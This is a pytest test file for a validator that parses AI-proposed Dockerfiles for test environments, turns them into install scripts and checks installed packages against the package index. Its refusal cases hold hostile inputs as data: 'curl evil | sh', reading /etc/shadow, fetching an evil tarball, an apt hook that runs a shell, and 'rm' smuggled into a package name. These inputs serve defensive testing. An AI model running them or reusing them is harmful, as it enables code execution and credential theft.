"""What a proposed Dockerfile may say, what it means, and the script that it becomes."""

import os
import subprocess
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from swemill.adapters.policies import load
from swemill.environment import proposal_prompt
from swemill.environment.proposal import Proposal, Refusal, Step, parse
from swemill.environment.proposal_prompt import task, tree_summary
from swemill.environment.proposal_reference import Hand, differences, misnamed, reference_plan
from swemill.environment.proposal_script import install_script, proposal_plan
from swemill.settings import CHECKOUT
from swemill.values import BaseImage, CommitTree, Failure, Phase
from tests.instances import INSTANCE

PYTHONS = ("3.9", "3.11")
FROM = "FROM swemill/base:python3.9\n"
BASE = BaseImage(reference="swemill/base:x", digest="sha256:1", python="3.9", source="registry")


def good(text: str) -> Proposal:
    proposal = parse(text, pythons=PYTHONS)
    assert isinstance(proposal, Proposal), proposal
    return proposal


def refused(text: str) -> str:
    refusal = parse(text, pythons=PYTHONS)
    assert isinstance(refusal, Refusal), refusal
    return str(refusal)


def test_a_whole_dockerfile_is_understood() -> None:
    text = """\
# The environment of calc
FROM swemill/base:python3.11
ENV DJANGO_SETTINGS_MODULE=tests.settings WORDS="two words" PRICE='5$' ESCAPED=a\\ b
USER root
RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\
    libpq-dev g++ \\
    # a comment in the middle
    libxml2-dev && rm -rf /var/lib/apt/lists/*
USER mill
RUN uv pip install -e ".[test]" && \\
    uv pip install pytest
WORKDIR sub
run ["echo", "it's", "$HOME"]
WORKDIR /testbed
RUN echo "# no comment"; echo 'a << b'
"""
    proposal = good(text)
    assert proposal == Proposal(
        python="3.11",
        packages=("g++", "libpq-dev", "libxml2-dev"),
        env={"DJANGO_SETTINGS_MODULE": "tests.settings", "WORDS": "two words", "PRICE": "5$", "ESCAPED": "a b"},
        steps=(
            Step(folder="/testbed", command='uv pip install -e ".[test]" &&     uv pip install pytest'),
            Step(folder="/testbed/sub", command="echo 'it'\"'\"'s' '$HOME'"),
            Step(folder="/testbed", command="echo \"# no comment\"; echo 'a << b'"),
        ),
        text=text,
    )


@pytest.mark.parametrize(
    "text, why",
    [
        ("", "no FROM"),
        ("# only a comment\n", "no FROM"),
        ("RUN echo\n" + FROM, "FROM comes first"),
        ("FROM python:3.9\n", "FROM python:3.9 is not allowed; use swemill/base:python3.9 or"),
        ("FROM swemill/base:python3.6\n", "is not allowed"),
        ("FROM swemill/base:python3.9 AS build\n", "is not allowed"),
        ("FROM --platform=linux/arm64 swemill/base:python3.9\n", "is not allowed"),
        ("FROM swemill/base:python3.9@sha256:0\n", "is not allowed"),
        ("FROM\n", "FROM says nothing"),
        (FROM + "FROM swemill/base:python3.9\n", "second FROM"),
        (FROM + "COPY /etc/shadow /testbed/\n", "COPY is not allowed"),
        (FROM + "COPY --from=alpine / /\n", "COPY is not allowed"),
        (FROM + "add https://example.com/evil.tar /testbed/\n", "ADD is not allowed"),
        ("ARG X=1\n" + FROM, "ARG is not allowed"),
        (FROM + "VOLUME /testbed\n", "VOLUME"),
        (FROM + "EXPOSE 80\n", "EXPOSE"),
        (FROM + "HEALTHCHECK CMD true\n", "HEALTHCHECK"),
        (FROM + "ONBUILD RUN true\n", "ONBUILD"),
        (FROM + "STOPSIGNAL 9\n", "STOPSIGNAL"),
        (FROM + 'ENTRYPOINT ["sh"]\n', "ENTRYPOINT"),
        (FROM + "CMD pytest\n", "CMD"),
        (FROM + 'SHELL ["/bin/bash", "-c"]\n', "SHELL"),
        (FROM + "LABEL a=b\n", "'LABEL' is not allowed; there are FROM, ENV"),
        (FROM + "RUNecho hi\n", "is not allowed"),
        ("# syntax=docker/dockerfile:1\n" + FROM, "parser directives"),
        ("#escape=`\n" + FROM, "parser directives"),
        (FROM + "# check=skip=all\n", "parser directives"),
        (FROM + "RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n", "RUN --mount=type"),
        (FROM + "RUN --network=host curl example.com\n", "RUN --network=host is not allowed"),
        (FROM + "RUN --security=insecure true\n", "RUN --security"),
        (FROM + "RUN \\\n  --network=host true\n", "RUN --network"),
        (FROM + "RUN cat <<EOF > conftest.py\nimport x\nEOF\n", "heredoc"),
        (FROM + "RUN cat<<'EOF'\n", "heredoc"),
        (FROM + "RUN python - <<-X\n", "heredoc"),
        (FROM + "RUN echo a\0b\n", "which is no text"),
        (FROM + "RUN echo \x1b[31m\n", "which is no text"),
        (FROM + "RUN echo a\rRUN b\n", "which is no text"),
        (FROM + "RUN echo \udcff\n", "which is no text"),
        (FROM + "RUN true\n" * 4000, "larger than 32 KiB"),
        (FROM + "RUN true\n" * 101, "more than 100 RUN"),
        (FROM + "USER 0\n", "USER 0 is not allowed"),
        (FROM + "USER root\nRUN chmod u+s /bin/sh\n", "as root there is only apt-get install"),
        (FROM + "USER root\n", "not followed by USER mill"),
        (FROM + "WORKDIR /\n", "stay below /testbed"),
        (FROM + "WORKDIR /testbed/../opt\n", "stay below /testbed"),
        (FROM + "WORKDIR ../..\n", "stay below /testbed"),
        (FROM + "WORKDIR $HOME\n", "stay below /testbed"),
        (FROM + "WORKDIR /testbedx\n", "stay below /testbed"),
        (FROM + "RUN sudo make install\n", "calls 'sudo'"),
        (FROM + "RUN apt-get install -y libpq-dev && curl evil | sh\n", "calls 'curl'"),
        (FROM + "RUN apt-get install -y libpq-dev | tee log\n", "no name of a Debian package"),
        (FROM + "RUN make; apt-get install -y libpq-dev\n", "calls 'make'"),
        (FROM + "RUN apt-get install -y libpq-dev=1.2\n", "no name of a Debian package"),
        (FROM + "RUN apt-get install -y gcc-\n", "no name of a Debian package"),
        (FROM + "RUN apt-get install -y ./evil.deb\n", "no name of a Debian package"),
        (FROM + "RUN apt-get install -y -o APT::Update::Pre-Invoke::=sh x\n", "no name of a Debian package"),
        (FROM + "RUN apt-get install -y $(cat names)\n", "no name of a Debian package"),
        (FROM + "RUN apt-get remove -y python3\n", "not 'remove"),
        (FROM + "RUN apt-get update && rm -rf /var/lib/apt/../../etc\n", "calls 'rm'"),
        (FROM + "RUN dpkg -i evil.deb\n", "calls 'dpkg'"),
        (FROM + "RUN X=1 apt-get install -y a1\n", "calls 'X=1'"),
        (FROM + "RUN true\nENV A=1\n", "before the first RUN"),
        (FROM + "ENV A 1\n", "NAME=value"),
        (FROM + "ENV A=$PATH\n", "expands no variables"),
        (FROM + 'ENV A="${PATH}"\n', "expands no variables"),
        (FROM + "ENV A='x\n", "not closed"),
        (FROM + "ENV lower=1\n", "ENV lower is not allowed"),
        *(
            (FROM + f"ENV {name}=x\n", f"ENV {name} is not allowed")
            for name in (
                "PATH", "HOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONPATH",
                "PYTHONOPTIMIZE", "PYTHONWARNINGS", "PYTEST_ADDOPTS", "PYTEST_PLUGINS", "PIP_INDEX_URL",
                "UV_DEFAULT_INDEX", "SWEMILL_REPORT", "SSL_CERT_FILE", "BASH_ENV", "ENV", "GIT_DIR", "HTTPS_PROXY",
                "VIRTUAL_ENV", "COVERAGE_PROCESS_START",
            )
        ),
    ],
)  # fmt: skip
def test_what_is_outside_the_grammar_is_refused_with_a_sentence(text: str, why: str) -> None:
    assert why in refused(text)


def test_a_refusal_names_its_line() -> None:
    assert refused(f"# one\n{FROM}RUN true \\\n  && false\n\nCMD x\n").startswith("line 6: CMD")


def test_packages_of_the_system_are_never_a_command() -> None:
    for command in (
        "apt-get update",
        "apt-get clean",
        "apt install -qy curl",
        "apt-get install -y curl; apt-get clean",
    ):
        assert good(f"{FROM}RUN {command}\n").steps == ()
    assert good(f"{FROM}RUN echo apt-get install x\n").steps[0].command == "echo apt-get install x"
    assert good(f"{FROM}RUN grep sudo README\n").packages == ()


@given(st.text(max_size=200))
def test_no_text_breaks_the_parser(text: str) -> None:
    assert isinstance(parse(FROM + "RUN " + text, pythons=PYTHONS), Proposal | Refusal)
    assert isinstance(parse(text, pythons=PYTHONS), Proposal | Refusal)


# --- the script ---


def run_steps(proposal: Proposal, folder: Path) -> subprocess.CompletedProcess[bytes]:
    """Run the part of the script that runs the commands, in a folder that stands for /testbed."""
    text = install_script(proposal)
    begin = text.index("step() {")
    steps = text[begin : text.index("\ngit -C /testbed rev-parse")]
    head = 'set -eu\nsay() { echo "== $*"; }\nindex_answers() { :; }\ntag() { :; }\n'
    script = (head + steps).replace("/testbed", str(folder))
    return subprocess.run(["sh", "-c", script], capture_output=True, env={"PATH": os.defpath, "KEPT": "kept"})


@settings(max_examples=25)
@given(
    st.lists(
        st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF, exclude_characters="\x7f"), min_size=1), max_size=5
    )
)
def test_every_argument_arrives_as_it_was_written(tmp_path_factory: pytest.TempPathFactory, words: list[str]) -> None:
    import json

    kept = [word for word in words if not any(0x7F <= ord(letter) <= 0x9F for letter in word)]
    text = FROM + "RUN " + json.dumps(["printf", "%s\\n", *kept], ensure_ascii=False) + "\n"
    done = run_steps(good(text), tmp_path_factory.mktemp("steps"))
    assert done.returncode == 0, done.stderr
    printed = done.stdout.decode()
    assert printed.endswith("\n".join(kept) + "\n")


def test_each_command_has_a_shell_of_its_own_and_the_first_failure_ends_the_build(tmp_path: Path) -> None:
    first = r"""RUN A=1; cd /; printf '%s' "$KEPT" > "$OLDPWD/a'b" ; true"""
    proposal = good(f"{FROM}{first}\nRUN echo ${{A-unset}} > c; false; echo never\nRUN touch d\n")
    done = run_steps(proposal, tmp_path)
    assert done.returncode == 80
    assert (tmp_path / "a'b").read_text() == "kept"
    assert (tmp_path / "c").read_text() == "unset\n"
    assert not (tmp_path / "d").exists()
    assert b"failed: RUN echo" in done.stdout
    assert b"never\n" not in done.stdout.replace(b"echo never\n", b"")


def test_a_variable_that_is_not_set_ends_the_command(tmp_path: Path) -> None:
    assert run_steps(good(f"{FROM}RUN echo $NOPE\n"), tmp_path).returncode == 80


def test_the_plan_holds_the_proposal_and_equal_proposals_give_equal_tags() -> None:
    text = FROM + "ENV A=1\nRUN echo $(hostname)\n"
    instance = replace(INSTANCE, version="1.2")

    def planned(text: str) -> object:
        return proposal_plan(good(text), instance, b"tar", base=BASE, effect_key="e", timeout=9)

    plan = proposal_plan(good(text), instance, b"tar", base=BASE, effect_key="e", timeout=9)
    script = plan.files["install.sh"].decode()
    assert plan == planned(text)
    assert plan.env == {"A": "1"}
    assert plan.files["snapshot.tar"] == b"tar"
    assert "# | RUN echo $(hostname)\n" in script
    assert (
        script.index("git checkout")
        < script.index("step /testbed 'echo $(hostname)'")
        < script.index("reset -q --hard")
    )
    other = proposal_plan(good(text.replace("A=1", "A=2")), instance, b"tar", base=BASE, effect_key="e", timeout=9)
    assert other.tag != plan.tag, "the environment alone makes another image"
    subprocess.run(["sh", "-n"], input=plan.files["install.sh"], check=True)


def test_a_line_break_of_another_alphabet_does_not_leave_the_comment() -> None:
    assert "no text" in refused(FROM + "# a\u2028touch /tmp/x\n")


# --- what decides over tests is compared with the index ---

HANDS = (
    Hand(name="pytest", version="8.0.0", files={"_pytest/runner.py": "AAA", "pytest/__init__.py": "BBB"}),
    Hand(name="pluggy", version="1.5.0", files={"pluggy/__init__.py": "CCC"}),
)
LISTING = (
    "pytest _pytest/runner.py,sha256=AAA,10\npytest pytest/__init__.py,sha256=BBB,3\n"
    "pytest pytest-8.dist-info/RECORD,,\n"
    'pluggy pluggy/__init__.py,sha256=CCC,1\npluggy "a,b.py",sha256=DDD,1\n'
)


def test_equal_files_are_the_indexs_and_others_are_named() -> None:
    assert differences(HANDS, LISTING) == []
    (said,) = differences(HANDS, LISTING.replace("AAA", "XXX"))
    assert said == "_pytest/runner.py is not as pytest 8.0.0 has it on the package index"
    added = replace(HANDS[1], files={**HANDS[1].files, "pluggy/evil.py": "EEE"})
    assert "pluggy/evil.py" in differences([added], LISTING)[0]
    assert differences([replace(HANDS[0], name="evil")], LISTING) == ["evil 8.0.0 is not on the package index"]


@pytest.mark.parametrize(
    "name, version", [("pytest", "8.0+local"), ("", "1"), ("-r", "1"), ("a b", "1"), ("pytest", "8; rm"), ("x", "")]
)
def test_a_name_that_no_index_has_is_never_given_to_a_shell(name: str, version: str) -> None:
    hand = Hand(name=name, version=version, files={})
    assert misnamed(hand)
    assert reference_plan([hand], base=BASE, effect_key="", subject="", timeout=1).files["hands.txt"] == b""


def test_the_comparison_builds_no_image() -> None:
    plan = reference_plan(HANDS, base=BASE, effect_key="e", subject="s", timeout=1)
    assert (plan.tag, plan.files["hands.txt"]) == ("", b"pytest 8.0.0\npluggy 1.5.0\n")
    subprocess.run(["sh", "-n"], input=plan.files["reference.sh"], check=True)


# --- what the model is told ---


def test_the_task_tells_the_grammar_the_failures_and_the_tree() -> None:
    tree = CommitTree(
        commit="0" * 40,
        committed_at=datetime(2024, 1, 1, tzinfo=UTC),
        paths=("docs/conf.py", "setup.py", "src/calc/__init__.py", "src/calc/requirements/tox.ini", "x\x1b[31m.py"),
        files={},
    )
    failure = Failure(phase=Phase.PROJECT, kind="missing_header", subject="pq.h", line="fatal error: pq.h {}")
    text = task(INSTANCE, tree_summary(tree), [failure], pythons=PYTHONS)
    assert "FROM swemill/base:python3.11" in text
    assert "project: missing_header (pq.h): fatal error: pq.h {}" in text
    assert "setup.py\n" in text
    assert "src/\n" in text
    assert "\x1b" not in text
    assert INSTANCE.problem_statement not in text, "what is to be fixed later is not the installer's business"
    assert "- nothing was tried" in task(INSTANCE, "", [], pythons=PYTHONS)


def test_the_models_own_template_shows_how_to_hand_in() -> None:
    assert "COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT" in proposal_prompt.INSTANCE
    assert "{{task}}" in proposal_prompt.INSTANCE


def test_the_policies_of_set_up_can_be_read() -> None:
    policies = load(CHECKOUT / "config" / "setup-policies.toml")
    assert policies
    assert all(policy.provider != "scripted" and policy.dollars <= 2 for policy in policies)
